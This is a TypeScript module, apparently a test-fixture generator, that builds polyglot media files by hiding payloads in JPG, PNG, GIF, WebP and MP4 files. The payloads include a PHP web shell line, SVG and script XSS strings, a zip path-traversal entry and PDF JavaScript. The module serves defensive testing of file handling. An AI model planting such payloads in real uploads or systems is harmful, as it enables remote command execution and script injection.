import { crc32 } from "node:zlib";
import { type Bases, type HostileFile, MARKER } from "../hostile-files.ts";

/** Pictures and films that are something else as well: behind their end, before their beginning, or in their notes. */
export function polyglots(bases: Bases, port: number): HostileFile[] {
  const files: HostileFile[] = [];
  const add = (trick: string, extension: string, bytes: Buffer) =>
    files.push({ kind: "polyglot", trick, filename: `polyglot-${files.length}.${extension}`, bytes });
  for (const [name, payload] of PAYLOADS(port)) {
    for (const [extension, base] of Object.entries(bases)) {
      add(`${extension} and ${name} behind it`, extension, Buffer.concat([base, payload]));
      add(`${name} and ${extension} behind it`, extension, Buffer.concat([payload, base]));
    }
    add(`jpg with ${name} in a comment`, "jpg", inJpegComment(bases.jpg, payload));
    add(`jpg with ${name} in its notes`, "jpg", inJpegNotes(bases.jpg, payload));
    add(`png with ${name} in a text`, "png", inPngChunk(bases.png, "tEXt", payload));
    add(`png with ${name} in a part of its own`, "png", inPngChunk(bases.png, "viTr", payload));
    add(`gif with ${name} in a comment`, "gif", inGifComment(bases.gif, payload));
    add(`webp with ${name} in a part of its own`, "webp", inWebpChunk(bases.webp, "EVIL", payload));
    add(`mp4 with ${name} in free space`, "mp4", Buffer.concat([bases.mp4, box("free", payload)]));
  }
  return files;
}

const PAYLOADS = (port: number): [string, Buffer][] => [
  ["a page", Buffer.from(`<html><script>fetch("http://127.0.0.1:${port}/${MARKER}")</script></html>`)],
  ["a script", Buffer.from(`*/=1;alert("${MARKER}");/*`)],
  ["a program of a server", Buffer.from(`<?php system($_GET["${MARKER}"]); ?>`)],
  ["an archive", Buffer.concat([Buffer.from("504b0304", "hex"), Buffer.from(`${MARKER}/../../x`)])],
  ["a drawing", Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${MARKER}')"/>`)],
  ["a document", Buffer.from(`%PDF-1.7\n1 0 obj<</JS(app.alert("${MARKER}"))>>`)],
];

function inJpegComment(jpeg: Buffer, payload: Buffer): Buffer {
  return Buffer.concat([jpeg.subarray(0, 2), segment(0xfe, payload), jpeg.subarray(2)]);
}

function inJpegNotes(jpeg: Buffer, payload: Buffer): Buffer {
  const notes = Buffer.concat([Buffer.from("http://ns.adobe.com/xap/1.0/\0"), payload]);
  return Buffer.concat([jpeg.subarray(0, 2), segment(0xe1, notes), jpeg.subarray(2)]);
}

function segment(marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([head, data]);
}

/** Behind the header of a PNG. */
export function inPngChunk(png: Buffer, type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length, 0);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([
    png.subarray(0, 33),
    frame.subarray(0, 4),
    body,
    frame.subarray(4),
    png.subarray(33),
  ]);
}

function inGifComment(gif: Buffer, payload: Buffer): Buffer {
  const piece = payload.subarray(0, 255);
  const comment = Buffer.concat([Buffer.from([0x21, 0xfe, piece.length]), piece, Buffer.from([0])]);
  return Buffer.concat([gif.subarray(0, -1), comment, gif.subarray(-1)]);
}

function inWebpChunk(webp: Buffer, type: string, payload: Buffer): Buffer {
  const padded = payload.length % 2 === 0 ? payload : Buffer.concat([payload, Buffer.alloc(1)]);
  const head = Buffer.alloc(8);
  head.write(type, 0, "latin1");
  head.writeUInt32LE(payload.length, 4);
  const all = Buffer.concat([webp, head, padded]);
  all.writeUInt32LE(all.length - 8, 4);
  return all;
}

function box(type: string, payload: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(payload.length + 8, 0);
  head.write(type, 4, "latin1");
  return Buffer.concat([head, payload]);
}
